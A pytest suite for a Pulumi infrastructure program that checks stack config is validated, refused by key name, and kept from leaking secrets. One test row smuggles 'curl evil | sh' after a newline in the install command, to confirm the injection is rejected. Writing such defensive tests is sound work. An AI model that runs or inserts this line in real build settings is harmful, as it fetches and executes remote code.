"""Stack config: declared once in Pulumi.yaml, validated as a whole before any resource exists."""

from __future__ import annotations

import dataclasses
import json
import os
import runpy
import subprocess

import jsonschema
import pulumi
import pytest
import yaml

from infra import catalog, config, projectfile
from review import capture
from tests.support import ROOT, offline_secrets, run_program, run_pull_request, stack_config

# Pulumi's own schema for Pulumi.yaml (pulumi/pulumi sdk/go/common/workspace/project.json, trimmed).
SCHEMA = ROOT / "tests" / "fixtures" / "pulumi-project.schema.json"


def _run_raw(values: dict, secret_keys, stack: str = "prod") -> None:
    """Run the program with exactly these config values (no stack file in between)."""
    capture.run(lambda: runpy.run_path(str(ROOT / "__main__.py")), stack=stack, config=values,
                secret_keys=secret_keys, program_dir=ROOT)


def _fails(stack: str, overrides: dict) -> str:
    """Hand the real program bad config as the engine hands it (strings; the CLI's own type check
    of Pulumi.yaml's declarations is projectfile's, tested there); return the program's error and
    check nothing was declared."""
    source = stack_config(stack)
    values = {**source.values, **{(k if ":" in k else f"ara-infra:{k}"): projectfile.as_config_string(v)
                                  for k, v in overrides.items()}}
    with pytest.raises(pulumi.RunError) as info:
        _run_raw(values, source.secret_keys, stack=stack)
    declared = [r for r in info.value.capture.resources if r.type != "pulumi:pulumi:Stack"]
    assert declared == [], f"resources declared despite invalid config: {[r.name for r in declared]}"
    return str(info.value)


# --- the declarations ---------------------------------------------------------------

def test_every_stack_config_field_is_declared_in_pulumi_yaml_with_the_matching_type():
    decls = projectfile.declarations(ROOT)
    expected = {"str": "string", "int": "integer", "bool": "boolean", "tuple[str, ...]": "array",
                "pulumi.Output[str]": "string", "VercelPlan": "string",
                "ManagedRulesMode": "string", "Framework": "string", "SkewProtection": "string",
                "pulumi.Output[str] | None": "string"}
    for field in dataclasses.fields(config.StackConfig):
        if field.name == "stack":
            continue
        decl = decls[config.config_key(field.name)]
        assert decl.type == expected[str(field.type)], field.name


def test_pulumi_yaml_declares_no_key_the_program_does_not_read():
    read = {config.config_key(name) for name in config.CONFIG_FIELDS}
    assert set(projectfile.declarations(ROOT)) == read


def test_secret_config_is_declared_secret_and_read_as_an_output():
    decls = projectfile.declarations(ROOT)
    secret_fields = {f.name for f in dataclasses.fields(config.StackConfig) if "Output" in str(f.type)}
    assert {config.config_key(n) for n in secret_fields} == {k for k, d in decls.items() if d.secret}
    for spec in catalog.ENV_VARS:
        if spec.source is catalog.Source.SECRET_CONFIG:
            assert decls[spec.origin].secret, spec.key


def test_pulumi_yaml_validates_against_pulumis_project_schema():
    schema = json.loads(SCHEMA.read_text())
    jsonschema.validate(yaml.safe_load((ROOT / "Pulumi.yaml").read_text()), schema)


def test_pulumi_yaml_declarations_use_only_types_pulumi_allows():
    raw = yaml.safe_load((ROOT / "Pulumi.yaml").read_text())["config"]
    assert {spec["type"] for spec in raw.values()} <= {"string", "integer", "boolean", "array"}
    assert all(spec.get("description") for spec in raw.values())


@pytest.mark.parametrize("stack", ["prod", "preview"])
def test_stack_files_only_set_declared_namespaced_non_secret_keys(stack):
    decls = projectfile.declarations(ROOT)
    values = yaml.safe_load((ROOT / f"Pulumi.{stack}.yaml").read_text())["config"]
    for key in values:
        namespace, _, name = key.partition(":")
        assert namespace == catalog.PROJECT_NAME and name in decls, key
        assert not decls[name].secret, f"{key} is a secret: set it with `pulumi config set --secret`"


# --- the loaded config ----------------------------------------------------------------

@pytest.mark.parametrize("stack", ["prod", "preview"])
def test_both_stacks_are_fully_described_by_their_files_plus_operator_secrets(stack):
    # The only keys the files lack are the declared secrets, which the CLI requires like any key
    # without a default: the operator sets them (`pulumi config set --secret`), the tests stand in.
    secrets = sorted(k for k, d in projectfile.declarations(ROOT).items() if d.secret)
    with pytest.raises(projectfile.ProjectFileError) as info:
        projectfile.stack_config(stack, ROOT)
    assert str(info.value).splitlines()[0] == projectfile.missing_keys_message(stack, secrets)
    assert sorted(offline_secrets()) == secrets
    run_program(stack)


def test_prod_defaults_come_from_pulumi_yaml(prod):
    project = prod.one(catalog.VERCEL_PROJECT)
    assert project.props["framework"] == "astro"
    assert project.props["resourceConfig"]["functionDefaultTimeout"] == 30.0


def test_a_missing_required_key_is_named_with_the_command_that_sets_it():
    source = stack_config("prod")
    values = {k: v for k, v in source.values.items() if k != "ara-infra:dbHost"}
    with pytest.raises(pulumi.RunError) as info:
        _run_raw(values, source.secret_keys, stack="prod")
    assert "ara-infra:dbHost: required" in str(info.value)
    assert "pulumi config set dbHost" in str(info.value)


def test_a_missing_secret_is_named_with_the_secret_set_command():
    source = stack_config("prod")
    values = {k: v for k, v in source.values.items() if k != "ara-infra:openaiApiKey"}
    with pytest.raises(pulumi.RunError) as info:
        _run_raw(values, source.secret_keys, stack="prod")
    assert "pulumi config set --secret openaiApiKey" in str(info.value)


@pytest.mark.parametrize(
    ("overrides", "expected"),
    [
        ({"functionMaxDuration": "thirty"}, "ara-infra:functionMaxDuration: must be an integer"),
        ({"hstsPreload": "maybe"}, "ara-infra:hstsPreload: must be true or false"),
        ({"functionRegions": []}, "ara-infra:functionRegions: must list at least one value"),
        ({"functionRegions": ["virginia"]}, "ara-infra:functionRegions: must be a Vercel function region"),
        ({"functionMaxDuration": 0}, "ara-infra:functionMaxDuration: must be between 1 and 900"),
        ({"deploymentProtection": "none"}, "ara-infra:deploymentProtection: must be one of"),
        ({"r2Location": "auto"}, "'auto' is not an R2 location hint"),
        ({"r2Location": "mars"}, "ara-infra:r2Location: must be empty or one of"),
        ({"r2Jurisdiction": "moon"}, "ara-infra:r2Jurisdiction: must be one of"),
        ({"hstsMaxAge": 86400}, "ara-infra:hstsMaxAge: must be at least 31536000"),
        ({"dbSslMode": "disable"}, "connections without TLS are not allowed"),
        ({"dbSslMode": "prefer"}, "ara-infra:dbSslMode"),
        ({"dbName": "ARA-prod"}, "ara-infra:dbName: must be a lowercase Postgres identifier"),
        ({"dbPort": 70000}, "ara-infra:dbPort: must be between 1 and 65535"),
        ({"reportsBucketName": "Ara_Reports"}, "ara-infra:reportsBucketName"),
        ({"backupsBucketName": "ara-prod-reports"}, "backupsBucketName: must differ from reportsBucketName"),
        ({"domain": "app.example.org"}, "is not inside dnsZone"),
        ({"domain": "https://app.appstoagents.com"}, "ara-infra:domain: must be a lowercase DNS name"),
        ({"gitRepository": "ara"}, "ara-infra:gitRepository: must be a GitHub repository 'owner/name'"),
        ({"cloudflareAccountId": "acct"}, "32-character hex"),
        ({"clerkFrontendApi": "http://clerk.appstoagents.com"}, "ara-infra:clerkFrontendApi"),
        ({"cspConnectSources": ["*"]}, "ara-infra:cspConnectSources"),
        ({"cspConnectSources": ["https://*"]}, "a wildcard only as its whole first label"),
        ({"cspScriptHashes": ["'unsafe-inline'"]}, "ara-infra:cspScriptHashes: must be a CSP hash"),
        ({"dbName": "a" * 57}, "must be at most 56 characters"),
        ({"dbPasswordVersion": 0}, "ara-infra:dbPasswordVersion: must be between 1"),
        ({"appDirectory": "."}, "contains this program"),
        ({"appDirectory": ".."}, "is outside the program directory"),
        ({"clerkPublishableKey": "sk_live_oops"}, "ara-infra:clerkPublishableKey"),
        ({"rateLimitWindowSeconds": 86400}, "ara-infra:rateLimitWindowSeconds: must be between 10 and 3600"),
        ({"rateLimitPath": "api"}, "ara-infra:rateLimitPath"),
        ({"vercelProjectName": "ara.prod"}, "ara-infra:vercelProjectName: must be a Vercel project name"),
        ({"vercelProjectName": "a" * 53}, "1-52 lowercase letters, digits or hyphens"),
        ({"firewallManagedRules": "block"}, "ara-infra:firewallManagedRules: must be one of log, enforce"),
        ({"vercelPlan": "free"}, "ara-infra:vercelPlan: must be one of hobby, pro, enterprise"),
        ({"vercelTeam": "Not A Slug"}, "ara-infra:vercelTeam: must be empty, a Vercel team slug"),
        ({"vercelTeam": ""}, "ara-infra:vercelTeam: required on the pro plan (vercelPlan)"),
        ({"vercelPlan": "enterprise", "vercelTeam": ""}, "ara-infra:vercelTeam: required on the enterprise plan"),
        ({"vercelPlan": "hobby"}, "ara-infra:functionRegions: functions run in one region on the hobby plan "
                                  "(vercelPlan); got 2 (iad1, sfo1)"),
        ({"vercelPlan": "hobby", "functionRegions": ["iad1"], "functionMaxDuration": 301},
         "ara-infra:functionMaxDuration: at most 300 seconds on the hobby plan (vercelPlan) (got 301)"),
        ({"functionMaxDuration": 900}, "ara-infra:functionMaxDuration: at most 800 seconds on the pro plan"),
        ({"protectStatefulResources": False}, "must stay true in prod"),
        ({"extraPreviewEnvironments": ["feature-x"]}, "extraPreviewEnvironments: removed: each pull request now"),
        ({"appDirectory": "no/such/dir"}, "ara-infra:appDirectory: 'no/such/dir' is not a directory"),
    ],
)
def test_bad_prod_config_is_refused_naming_the_key(overrides, expected):
    assert expected in _fails("prod", overrides)


@pytest.mark.parametrize(
    ("overrides", "expected"),
    [
        ({"domainGitBranch": ""}, "ara-infra:domainGitBranch: required in preview"),
        ({"domainGitBranch": "main"}, "the production branch already gets the production domain"),
        ({"extraPreviewEnvironments": ["feature/search"]}, "extraPreviewEnvironments: removed: each pull request now"),
    ],
)
def test_bad_preview_config_is_refused_naming_the_key(overrides, expected):
    assert expected in _fails("preview", overrides)


def test_an_array_key_handed_a_plain_string_is_refused_by_the_program():
    # `pulumi up` hands the program strings; the review tool refuses this earlier (projectfile).
    source = stack_config("prod")
    with pytest.raises(pulumi.RunError, match="ara-infra:functionRegions: must be a list of strings"):
        _run_raw({**source.values, "ara-infra:functionRegions": "iad1"}, source.secret_keys)


def test_every_problem_is_listed_at_once():
    message = _fails("prod", {"dbPort": "x", "r2Location": "auto", "hstsMaxAge": 1})
    assert "3 problem(s)" in message
    for key in ("dbPort", "r2Location", "hstsMaxAge"):
        assert f"ara-infra:{key}:" in message


def test_an_unknown_stack_is_refused():
    with pytest.raises(pulumi.RunError, match="stack 'staging' has no composition"):
        source = stack_config("prod")
        _run_raw(source.values, source.secret_keys, stack="staging")


def test_a_secret_set_in_plain_text_is_refused():
    source = stack_config("prod")
    plain = [k for k in source.secret_keys if k != "ara-infra:openaiApiKey"]
    with pytest.raises(pulumi.RunError) as info:
        _run_raw(source.values, plain, stack="prod")
    assert "ara-infra:openaiApiKey: is a secret; store it with `pulumi config set --secret openaiApiKey" in str(
        info.value
    )


@pytest.mark.parametrize(
    ("key", "bad", "expected"),
    [
        ("upstashRedisUrl", "redis://default:hunter2-planted@eu1.upstash.io:6379", "must be a rediss://"),
        ("sentryDsn", "http://hunter2-planted@sentry.io/1", "must be an https://"),
        ("clerkSecretKey", "hunter2-planted", "must be a Clerk secret key"),
    ],
)
def test_a_badly_shaped_secret_is_refused_without_echoing_it(key, bad, expected):
    source = stack_config("prod")
    values = {**source.values, f"ara-infra:{key}": bad}
    with pytest.raises(pulumi.RunError) as info:
        _run_raw(values, source.secret_keys, stack="prod")
    assert f"ara-infra:{key}: {expected}" in str(info.value)
    assert "hunter2-planted" not in str(info.value)


def test_a_malformed_stack_file_is_named(tmp_path):
    for name in ("Pulumi.yaml",):
        (tmp_path / name).write_text((ROOT / name).read_text())
    (tmp_path / "Pulumi.prod.yaml").write_text("config: [not, a, mapping]\n")
    with pytest.raises(projectfile.ProjectFileError, match=r"Pulumi.prod.yaml: 'config' must be a mapping"):
        projectfile.stack_config("prod", tmp_path)


def test_a_stack_file_that_is_not_yaml_is_named(tmp_path):
    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
    (tmp_path / "Pulumi.prod.yaml").write_text("config: {\n")
    with pytest.raises(projectfile.ProjectFileError, match=r"Pulumi.prod.yaml: not valid YAML"):
        projectfile.stack_config("prod", tmp_path)


def test_a_stack_without_a_stack_file_has_the_projects_defaults_and_is_refused_for_what_it_lacks(tmp_path):
    # The CLI runs a stack with no Pulumi.<stack>.yaml on Pulumi.yaml's defaults alone; here that
    # leaves every key without a default missing, which it refuses in its own words.
    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
    with pytest.raises(projectfile.ProjectFileError) as info:
        projectfile.stack_config("qa", tmp_path)
    required = sorted(k for k, d in projectfile.declarations(ROOT).items() if not d.has_default)
    assert str(info.value).startswith(projectfile.missing_keys_message("qa", required))
    assert "Pulumi.qa.yaml does not exist: the stack has only Pulumi.yaml's defaults" in str(info.value)


def test_secure_values_in_a_stack_file_become_secret_placeholders(tmp_path):
    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
    (tmp_path / "Pulumi.prod.yaml").write_text(
        (ROOT / "Pulumi.prod.yaml").read_text() + "  ara-infra:openaiApiKey:\n    secure: v1:abc:def\n"
    )
    others = {k: v for k, v in offline_secrets().items() if k != "openaiApiKey"}
    source = projectfile.stack_config("prod", tmp_path, overrides=others)
    assert source.values["ara-infra:openaiApiKey"] == source.placeholders["ara-infra:openaiApiKey"]
    assert "v1:abc:def" not in json.dumps(source.values)
    assert "ara-infra:openaiApiKey" in source.secret_keys


def test_the_vercel_plan_is_required_and_named_with_its_set_command():
    source = stack_config("prod")
    values = {k: v for k, v in source.values.items() if k != "ara-infra:vercelPlan"}
    with pytest.raises(pulumi.RunError) as info:
        _run_raw(values, source.secret_keys, stack="prod")
    assert "ara-infra:vercelPlan: required" in str(info.value)
    assert "pulumi config set vercelPlan" in str(info.value)


def test_a_personal_hobby_account_needs_no_team_and_one_region():
    capture = run_program("prod", {"vercelPlan": "hobby", "vercelTeam": "", "functionRegions": ["iad1"],
                                   "functionMaxDuration": 300, "skewProtection": "off"})
    assert capture.one(catalog.VERCEL_PROJECT).props["resourceConfig"]["functionDefaultRegions"] == ["iad1"]


def test_skew_protection_is_refused_on_hobby_and_must_be_a_provider_value():
    message = _fails("prod", {"vercelPlan": "hobby", "vercelTeam": "", "functionRegions": ["iad1"],
                                "functionMaxDuration": 300})
    assert "ara-infra:skewProtection: Skew Protection is not available on the hobby plan (vercelPlan); set it to off" \
        in message
    message = _fails("prod", {"skewProtection": "2 hours"})
    assert "ara-infra:skewProtection:" in message and "12 hours" in message


@pytest.mark.parametrize(
    ("requests", "window", "plan", "rule"),
    [
        # The guide's 100 per hour: exact where the plan allows an hour, else 17 per 10 minutes.
        (100, 3600, "enterprise", (100, 3600)),
        (100, 3600, "pro", (17, 600)),
        (100, 3600, "hobby", (17, 600)),
        # A window the plan allows is kept as configured.
        (20, 60, "pro", (20, 60)),
        (50, 600, "hobby", (50, 600)),
        # Scaled limits round up: a client spreading the budget evenly is never refused.
        (10, 3600, "pro", (2, 600)),
        (1, 3600, "pro", (1, 600)),
    ],
)
def test_the_edge_rule_fits_the_budget_into_the_plans_longest_window(requests, window, plan, rule):
    assert config.edge_rate_limit(requests, window, plan) == rule
    limit, edge_window = rule
    assert edge_window <= config.PLAN_LIMITS[plan].max_rate_limit_window_seconds
    # Never stricter on average than the budget over its own window.
    assert limit * window / edge_window >= requests


def test_a_wildcard_subdomain_origin_is_accepted_for_connections():
    capture = run_program("prod", {"cspConnectSources": ["https://*.posthog.com"]})
    route = capture.one(catalog.VERCEL_PROJECT_ROUTE, "ara-headers-route")
    assert "https://*.posthog.com" in route.props["route"]["headers"]["Content-Security-Policy"]


def test_bumping_the_password_version_rotates_both_role_passwords():
    capture = run_program("prod", {"dbPasswordVersion": 2})
    passwords = [capture.one(catalog.RANDOM_PASSWORD, f"ara-db-{r}-password") for r in ("owner", "app")]
    assert [p.props["keepers"] for p in passwords] == [{"version": "2"}] * 2

# --- the database server: supported versions and the CA the provider verifies it with ---------
@pytest.mark.parametrize(
    ("overrides", "expected"),
    [
        ({"dbServerMajorVersion": 14}, "ara-infra:dbServerMajorVersion: PostgreSQL 14 is not supported: 15 or newer"),
        ({"dbServerMajorVersion": 100}, "ara-infra:dbServerMajorVersion: must be between 15 and 99"),
        ({"dbSslRootCert": "ca.txt"}, "ara-infra:dbSslRootCert: must be empty or the path of a .pem/.crt file"),
        ({"dbSslRootCert": "no/such-ca.pem"}, "ara-infra:dbSslRootCert: 'no/such-ca.pem' is not a readable file"),
        ({"dbSslRootCert": "tests/fixtures/db/test-ca.pem", "dbSslMode": "require"},
         "ara-infra:dbSslRootCert: only used to verify the server; set dbSslMode to verify-ca or verify-full"),
    ],
)
def test_bad_database_server_config_is_refused_naming_the_key(overrides, expected):
    assert expected in _fails("prod", overrides)
def test_a_root_certificate_file_that_holds_no_certificate_is_refused(tmp_path):
    bogus = tmp_path / "not-a-cert.pem"
    bogus.write_text("hello\n")
    relative = os.path.relpath(bogus, ROOT)
    assert f"{relative!r} holds no PEM certificate" in _fails("prod", {"dbSslRootCert": relative})
def test_a_root_certificate_reaches_the_provider_of_every_database():
    # The preview stack's database and a pull-request stack's, on the same server.
    overrides = {"dbSslRootCert": "tests/fixtures/db/test-ca.pem", "dbSslMode": "verify-full"}
    providers = [*run_program("preview", overrides).of_type(catalog.PG_PROVIDER),
                 *run_pull_request(7, "feature/x", overrides).of_type(catalog.PG_PROVIDER)]
    assert len(providers) == 2
    assert {p.props["sslrootcert"] for p in providers} == {"tests/fixtures/db/test-ca.pem"}
@pytest.mark.parametrize("stack", ["prod", "preview"])
def test_the_policy_packs_window_limit_is_the_stacks_plan_limit(stack):
    # The pack judges the firewall against the window the stack's plan allows; the two must move together.
    plan = yaml.safe_load((ROOT / f"Pulumi.{stack}.yaml").read_text())["config"]["ara-infra:vercelPlan"]
    pack = json.loads((ROOT / "policies" / "config" / f"{stack}.json").read_text())
    configured = pack.get("vercel-firewall-restrict-rate-limit-window", {}).get("maxWindowSeconds")
    default = catalog.RATE_LIMIT_MAX_WINDOW_SECONDS["pro"]
    assert (configured or default) == config.PLAN_LIMITS[plan].max_rate_limit_window_seconds


# --- refusals by class of bad input -------------------------------------------------------
# Each row is one class the fuzzed gate let through; the message must name the key.

CANARY = "CANARY-9d1f-planted"

BAD_VALUES = {
    "trailing newline in an identifier": ({"dbName": "ara_prod\n"}, "ara-infra:dbName: must not contain line breaks"),
    "trailing newline in a host": ({"domain": "app.appstoagents.com\n"}, "ara-infra:domain: must not contain"),
    "newline in a path": ({"rateLimitPath": "/api\n"}, "ara-infra:rateLimitPath: must not contain"),
    "newline in a publishable key": ({"clerkPublishableKey": "pk_live_abc\n"}, "ara-infra:clerkPublishableKey"),
    "bidi override in a list item": ({"cspConnectSources": ["https://a.example.com\u202e"]},
                                     "ara-infra:cspConnectSources: must not contain"),
    "NUL in a command": ({"buildCommand": "npm run build\x00"}, "ara-infra:buildCommand: must not contain"),
    "newline in a command": ({"installCommand": "npm ci\ncurl evil | sh"},
        "ara-infra:installCommand: must not contain"),
    "database named postgres": ({"dbName": "postgres"}, "ara-infra:dbName: 'postgres' is a Postgres system database"),
    "database named template0": ({"dbName": "template0"}, "'template0' is a Postgres system database"),
    "database named template1": ({"dbName": "template1"}, "'template1' is a Postgres system database"),
    "database equal to the admin database": ({"dbAdminDatabase": "ara_prod"},
        "ara-infra:dbName: must differ from dbAdminDatabase"),
    "database with the pg_ prefix": ({"dbName": "pg_ara"}, "ara-infra:dbName: must not start with pg_"),
    "admin role with the pg_ prefix": ({"dbAdminUser": "pg_admin"},
        "ara-infra:dbAdminUser: role names starting with pg_"),
    "program role equal to the admin role": ({"dbName": "ara", "dbAdminUser": "ara_owner"},
                                             "the program's role 'ara_owner' would be the admin role"),
    "appDirectory absolute": ({"appDirectory": "/etc"}, "ara-infra:appDirectory: '/etc' must be relative"),
    "appDirectory outside the repository": ({"appDirectory": "../.."}, "ara-infra:appDirectory: '../..' is outside"),
    "appDirectory with a NUL": ({"appDirectory": "app\x00"}, "ara-infra:appDirectory: must not contain"),
    "appDirectory too long for the file system": ({"appDirectory": "a" * 5000}, "ara-infra:appDirectory: 'aaaa"),
    "CA file path with a NUL": ({"dbSslRootCert": "ca\x00.pem"}, "ara-infra:dbSslRootCert: must not contain"),
    "appDirectory inside .git": ({"appDirectory": ".git/hooks"}, "ara-infra:appDirectory: '.git/hooks' is inside .git"),
    "branch starting with a dash": ({"productionBranch": "-x"},
        "ara-infra:productionBranch: must be a git branch name"),
    "branch starting with a dot": ({"productionBranch": ".hidden"}, "must be a git branch name: '.hidden'"),
    "branch with a .lock part": ({"productionBranch": "a.lock/b"}, "must be a git branch name: 'a.lock/b'"),
    "branch named HEAD": ({"productionBranch": "HEAD"}, "must be a git branch name: 'HEAD' is reserved by git"),
    "branch that slugs to nothing": ({"productionBranch": "___"}, "has no letters or digits"),
    "preview branch git refuses": ({"extraPreviewEnvironments": ["feat..x"]}, "ara-infra:extraPreviewEnvironments"),
    "unknown framework preset": ({"framework": "astor"}, "ara-infra:framework: must be a Vercel framework preset"),
    "framework preset given as a list": ({"framework": '["astro"]'}, "ara-infra:framework: must be a Vercel framework"),
    "blank build command": ({"buildCommand": "   "}, "ara-infra:buildCommand: must be a command"),
    "output directory escaping the build": ({"outputDirectory": "../dist"},
        "ara-infra:outputDirectory: must be a relative"),
    "absolute output directory": ({"outputDirectory": "/srv"}, "ara-infra:outputDirectory: must be a relative"),
    "duplicate region": ({"functionRegions": ["iad1", "iad1"]},
        "ara-infra:functionRegions: lists 'iad1' more than once"),
    "duplicate CSP origin": ({"cspConnectSources": ["https://a.example.com"] * 2},
        "ara-infra:cspConnectSources: lists"),
    "integer with an underscore": ({"dbPort": "3_0"}, "ara-infra:dbPort: must be an integer in decimal digits"),
    "integer in non-ASCII digits": ({"functionMaxDuration": "\u0663\u0660"},
        "ara-infra:functionMaxDuration: must be an integer"),
    "4,000-digit integer": ({"dbConnectionLimit": "9" * 4000}, "(4000 characters)"),
    "integer with a leading zero": ({"dbPort": "010"}, "ara-infra:dbPort: must be an integer in decimal digits"),
    "boolean written as yes": ({"hstsPreload": "yes"}, "ara-infra:hstsPreload: must be true or false"),
    "misspelt key": ({"rateLimitRequest": 5}, "ara-infra:rateLimitRequest: not a key of this program"),
    "misspelt key, wrong case": ({"dbsslmode": "verify-full"}, "did you mean 'dbSslMode'?"),
    "misspelt namespace": ({"ara_infra:dbSslMode": "disable"},
                           "ara_infra:dbSslMode: namespace 'ara_infra' is not this project's; "
                           "did you mean 'ara-infra:dbSslMode'?"),
    "misspelt namespace and key": ({"ara-infr:dbSslmode": "disable"}, "did you mean 'ara-infra:dbSslMode'?"),
}


@pytest.mark.parametrize("case", list(BAD_VALUES), ids=list(BAD_VALUES))
def test_a_bad_value_is_refused_naming_the_key_before_any_resource(case):
    overrides, expected = BAD_VALUES[case]
    message = _fails("prod", overrides)
    assert expected in message
    assert "4000" not in expected or len(message) < 1000  # long values are cut short, not echoed


def test_the_misspelt_key_suggestion_names_the_declared_key():
    assert "did you mean 'rateLimitRequests'?" in _fails("prod", {"rateLimitRequest": 5})


def test_keys_of_other_namespaces_are_left_to_their_providers():
    run_program("prod", {"vercel:team": "team_abc", "cloudflare:apiToken": "x", "pulumi:tags": {"owner": "ara"}})


@pytest.mark.parametrize("key", ["ara:hstsPreload", "aws:region", "arainfra:hstsPreload"])
def test_a_key_under_a_namespace_nothing_reads_is_refused(key):
    # The CLI passes it to the program, which reads only its own and its providers' namespaces: a
    # stack file's `ara:hstsPreload: true` would otherwise leave the header without preload, silently.
    message = _fails("prod", {key: "true"})
    assert f"{key}: namespace '{key.partition(':')[0]}' is neither this project's (ara-infra) nor one of" in message \
        or f"{key}: namespace '{key.partition(':')[0]}' is not this project's" in message


def test_a_foreign_namespace_key_names_the_project_key_it_resembles():
    assert "did you mean 'ara-infra:hstsPreload'?" in _fails("prod", {"ara:hstsPreload": "true"})


def test_pull_request_stacks_never_read_the_app_secrets_the_cli_makes_the_workflow_set():
    # The workflow sets a stand-in for each (stacks.prstack.UNREAD_SECRET_VALUE): never shape-checked.
    from stacks import prstack

    stand_ins = {config.config_key(name): prstack.UNREAD_SECRET_VALUE for name in config.PR_UNREAD_SECRETS}
    capture = run_pull_request(8, "feature/y", stand_ins)
    assert prstack.UNREAD_SECRET_VALUE not in json.dumps([r.plain for r in capture.resources])


BAD_SECRETS = {
    "empty": ("openaiApiKey", ""),
    "blank": ("posthogApiKey", "   "),
    "trailing newline": ("openaiApiKey", f"sk-proj-{CANARY}\n"),
    "control character": ("dbAdminPassword", f"{CANARY}\x07"),
    "JWT key that is not a PEM": ("clerkJwtKey", CANARY),
    "PEM of a private key": ("clerkJwtKey", "-----BEGIN PRIVATE KEY-----\nQ0FOQVJZ\n-----END PRIVATE KEY-----"),
    "DSN without key or project": ("sentryDsn", "https://"),
    "DSN over http": ("sentryDsn", f"http://{CANARY}@o0.ingest.sentry.io/1"),
    "Redis URL without TLS": ("upstashRedisUrl", f"redis://default:{CANARY}@eu1.upstash.io:6379"),
    "Redis URL without a password": ("upstashRedisUrl", "rediss://eu1.upstash.io:6379"),
    "Clerk secret key of another kind": ("clerkSecretKey", f"sk_other_{CANARY}"),
}


@pytest.mark.parametrize("case", list(BAD_SECRETS), ids=list(BAD_SECRETS))
def test_a_bad_secret_is_refused_naming_the_key_and_never_the_value(case):
    key, bad = BAD_SECRETS[case]
    source = stack_config("prod")
    values = {**source.values, f"ara-infra:{key}": bad}
    with pytest.raises(pulumi.RunError) as info:
        _run_raw(values, source.secret_keys, stack="prod")
    message = str(info.value)
    assert f"ara-infra:{key}: " in message and "(value not shown)" in message
    assert CANARY not in message


def test_a_pem_jwt_key_is_accepted_with_real_or_escaped_newlines():
    body = "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"
    for pem in (f"-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\n",
                f"-----BEGIN PUBLIC KEY-----\\n{body}\\n-----END PUBLIC KEY-----"):
        run_program("prod", {"clerkJwtKey": pem})


# Names git itself judges: `git check-ref-format --branch` is the oracle (run outside a repository,
# so no @{-1} expansion), and the program must agree with it.
GIT_BRANCH_NAMES = ["main", "feature/x", "release-1.2", "-x", ".hidden", "a.lock/b", "a.lock", "HEAD", "a b",
                    "a..b", "a/", "a.", "a@{b", "x//y", "a/.b", "foo.lock.x", "-", "a~b", "a^b", "a:b", "a?b",
                    "a*b", "a[b", "a\\b", "@x", "x@", "HEAD/x", "a/-b", "/a", "tab\tx", "ü-branch"]


@pytest.mark.slow  # runs git
@pytest.mark.parametrize("name", GIT_BRANCH_NAMES)
def test_branch_names_are_judged_as_git_judges_them(name, tmp_path):
    git = subprocess.run(["git", "check-ref-format", "--branch", name], cwd=tmp_path, capture_output=True)
    assert (config.git_branch_problem(name) is None) == (git.returncode == 0), git.stderr


@pytest.mark.slow  # runs git
@pytest.mark.parametrize("name", ["___", "@", "a" * 101])
def test_branch_names_git_allows_but_resources_cannot_be_named_after_are_refused(name, tmp_path):
    assert subprocess.run(["git", "check-ref-format", "--branch", name], cwd=tmp_path).returncode == 0
    assert config.git_branch_problem(name)


HOSTILE = ["\x00", "a" * 5000, "[]", "{}", "\n", "\U0001F600"]


@pytest.mark.parametrize("key", sorted(projectfile.declarations(ROOT)))
def test_no_declared_key_crashes_the_loader_on_hostile_values(key):
    # Any outcome but a Python error: accepted, or refused by key (RunError). A crash would be
    # exit 3 "the program failed" instead of exit 2 naming the key.
    source = stack_config("prod")
    for value in HOSTILE:
        try:
            _run_raw({**source.values, f"ara-infra:{key}": value}, source.secret_keys)
        except pulumi.RunError as error:
            assert f"ara-infra:{key}" in str(error), (value[:10], str(error)[:300])
